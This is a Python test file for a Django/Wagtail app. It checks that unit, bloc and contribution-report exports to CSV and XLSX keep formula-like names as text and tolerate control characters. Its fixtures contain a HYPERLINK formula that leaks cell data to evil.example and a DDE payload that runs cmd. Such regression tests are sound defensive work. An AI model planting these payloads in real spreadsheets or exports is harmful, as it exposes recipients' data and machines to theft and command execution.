"""Every spreadsheet of units and their contributions keeps a name that looks like a formula as text,
and survives control characters already in the database."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from exemplars.models import UnitSectionPage
from tests.factories import ExemplarPageFactory
from units.models import EmulationBloc, Unit

pytestmark = pytest.mark.django_db

YEAR = 2020
# Names as they might have been stored: a formula, a control character inside.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Huyện Kế Sách")'
STORED_NAME = FORMULA_NAME[:10] + "\x01\x02" + FORMULA_NAME[10:]
BLOC_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def content_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(content_of(response).decode("utf-8-sig"))))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(content_of(response))).active


def row_starting_with(rows, text):
    return next(row for row in rows if row[0] == text)


@pytest.fixture
def board(client, staff):
    client.force_login(staff["board"])
    return client


@pytest.fixture
def formula_names(newsroom):
    """Kế Sách renamed, and its bloc, straight in the database (as no form would let through today)."""
    Unit.objects.filter(slug="huyen-ke-sach").update(name=STORED_NAME)
    EmulationBloc.objects.filter(units__slug="huyen-ke-sach").update(name=BLOC_FORMULA + "\x1f")
    # Two stories in January 2020, so the report has numbers next to the name.
    section = UnitSectionPage.objects.filter(locale__language_code="vi").get(unit__slug="huyen-ke-sach")
    for day in (5, 20):
        ExemplarPageFactory(parent=section, first_published_at=timezone.make_aware(datetime.datetime(YEAR, 1, day, 9)))


def test_unit_list_csv_keeps_formulas_as_text(board, formula_names):
    response = board.get(reverse("wagtailsnippets_units_unit:list"), {"export": "csv"})

    assert response.status_code == 200
    row = row_starting_with(csv_rows(response), "'" + FORMULA_NAME)
    assert "'" + BLOC_FORMULA in row


def test_unit_list_xlsx_survives_control_characters_and_keeps_formulas_as_text(board, formula_names):
    response = board.get(reverse("wagtailsnippets_units_unit:list"), {"export": "xlsx"})

    assert response.status_code == 200
    sheet = xlsx_sheet(response)
    [cell] = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == FORMULA_NAME]
    assert cell.data_type != "f"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_bloc_list_csv_keeps_formulas_as_text(board, formula_names):
    response = board.get(reverse("wagtailsnippets_units_emulationbloc:list"), {"export": "csv"})

    assert response.status_code == 200
    assert row_starting_with(csv_rows(response), "'" + BLOC_FORMULA)


def test_contribution_report_csv_keeps_formulas_as_text_and_numbers_as_numbers(board, formula_names):
    response = board.get(reverse("units_reports:contributions"), {"year": YEAR, "export": "csv"})

    assert response.status_code == 200
    heading, *rows = csv_rows(response)
    values = dict(zip(heading, row_starting_with(rows, "'" + FORMULA_NAME), strict=True))
    assert values["Khối thi đua"] == "'" + BLOC_FORMULA
    assert (values["T1"], values["Tổng số"]) == ("2/1", "2")


def test_contribution_report_xlsx_survives_control_characters(board, formula_names):
    response = board.get(reverse("units_reports:contributions"), {"year": YEAR, "export": "xlsx"})

    assert response.status_code == 200
    sheet = xlsx_sheet(response)
    heading = [cell.value for cell in sheet[1]]
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == FORMULA_NAME]
    cells = dict(zip(heading, row, strict=True))
    assert cells["Khối thi đua"].value == BLOC_FORMULA
    assert all(cell.data_type != "f" for cell in row)
    # Figures are still numbers a spreadsheet can add up.
    assert cells["Tổng số"].value == 2 and cells["Tổng số"].data_type == "n"


def test_yearly_scoring_xlsx_survives_control_characters(board, formula_names):
    response = board.get(reverse("units_reports:scoring"), {"year": YEAR, "export": "xlsx"})

    assert response.status_code == 200
    sheet = xlsx_sheet(response)
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[2].value == FORMULA_NAME]
    assert row[0].value == BLOC_FORMULA
    assert all(cell.data_type != "f" for cell in row)


def test_contribution_report_command_csv_keeps_formulas_as_text(formula_names):
    out = io.StringIO()
    call_command("contribution_report", "--year", str(YEAR), "--unit", "huyen-ke-sach", stdout=out)

    [row] = csv.DictReader(io.StringIO(out.getvalue()))
    assert (row["name"], row["bloc"]) == ("'" + FORMULA_NAME, "'" + BLOC_FORMULA)
    assert (row["slug"], row["2020-01"], row["total"]) == ("huyen-ke-sach", "2/1", "2")
